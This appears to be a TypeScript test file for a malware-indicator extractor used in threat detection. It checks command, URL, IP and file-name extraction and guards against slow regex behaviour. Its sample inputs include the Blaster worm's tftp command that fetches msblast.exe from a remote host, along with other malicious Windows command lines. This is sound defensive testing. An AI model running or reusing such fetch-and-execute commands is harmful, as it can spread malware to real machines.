// Indicators from typed lines: the Blaster follow-up and other ordinary commands, the same file names as
// the original `\b[\w.-]+\.(exe|...)\b` regex on random input, and linear cost on adversarial lines.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { extractIndicators } from '../../src/detect/indicator-extract.js';

const values = (text: string, type: string): string[] => extractIndicators(text).filter((i) => i.type === type).map((i) => i.value);

test('ordinary lines: tftp fetch, URLs, hosts and file names', () => {
  const blaster = extractIndicators('tftp -i 198.51.100.66 GET msblast.exe\r\n');
  assert.deepEqual(blaster.map((i) => `${i.type}=${i.value}`), [
    'command=tftp -i 198.51.100.66 GET msblast.exe', 'url=tftp://198.51.100.66/msblast.exe', 'ipv4-addr=198.51.100.66', 'file-name=msblast.exe',
  ]);
  assert.deepEqual(values('start C:\\WINDOWS\\system32\\penis32.exe & copy a.bat b.CMD & rundll32 shell32.dll,Control_RunDLL', 'file-name'),
    ['penis32.exe', 'a.bat', 'b.CMD', 'shell32.dll']);
  assert.deepEqual(values('echo get tftpd.exe.bak x.exe-y.vbs .exe a.exec setup.ps1', 'file-name'), ['tftpd.exe', 'x.exe-y.vbs', 'setup.ps1']);
  assert.deepEqual(values('ftp://10.0.0.1:21/a.exe and http://h.example/x?y=1 http://h.example/x?y=1', 'url'), ['ftp://10.0.0.1:21/a.exe', 'http://h.example/x?y=1']);
});

test('file names are exactly what the original regex found, on random lines', () => {
  const original = /\b[\w.-]+\.(?:exe|com|scr|bat|cmd|dll|vbs|ps1|pif)\b/gi;
  const line = fc.string({ unit: fc.constantFrom('a', 'Z', '1', '_', '.', '-', ' ', '/', 'é', '.exe', '.DLL', '.ps1', '.pif', 'e', 'x', 'com'), maxLength: 40 });
  fc.assert(fc.property(line, (s) => {
    const expected = [...new Set([...s.matchAll(original)].map((m) => m[0]))];
    assert.deepEqual(values(s, 'file-name'), expected);
  }), { numRuns: 3000, seed: 10 });
});

/** Best of three, in ms: the cost of extracting from every line. */
function cost(lines: string[]): number {
  let best = Infinity;
  for (let r = 0; r < 3; r++) {
    const t = process.hrtime.bigint();
    for (const l of lines) extractIndicators(l);
    best = Math.min(best, Number(process.hrtime.bigint() - t) / 1e6);
  }
  return best;
}

test('adversarial lines cost linear time: one 100 KB line costs about what 25 lines of 4 KB cost', () => {
  const shapes: Record<string, (n: number) => string> = {
    dots: (n) => 'a.'.repeat(n / 2),
    dashes: (n) => 'a-'.repeat(n / 2),
    digits: (n) => '1.'.repeat(n / 2),
    tftp: (n) => 'tftp -i '.repeat(n / 8),
    urls: (n) => 'http://'.repeat(Math.floor(n / 7)),
    names: (n) => 'x.exe.'.repeat(Math.floor(n / 6)),
  };
  for (const [name, make] of Object.entries(shapes)) {
    const small = make(4096);
    const big = make(4096 * 25);
    assert.ok(small.length >= 4090 && big.length >= 25 * 4090, name);
    // Same number of characters either way: linear work gives a ratio near 1, quadratic near 25.
    const ratio = cost([big]) / Math.max(cost(Array(25).fill(small)), 0.05);
    assert.ok(ratio < 6, `${name}: the 100 KB line cost ${ratio.toFixed(1)}x the 25 short ones`);
  }
  assert.equal(values('a.'.repeat(2048) + 'b.exe', 'file-name')[0].length, 4101, 'a long name is still found whole');
});
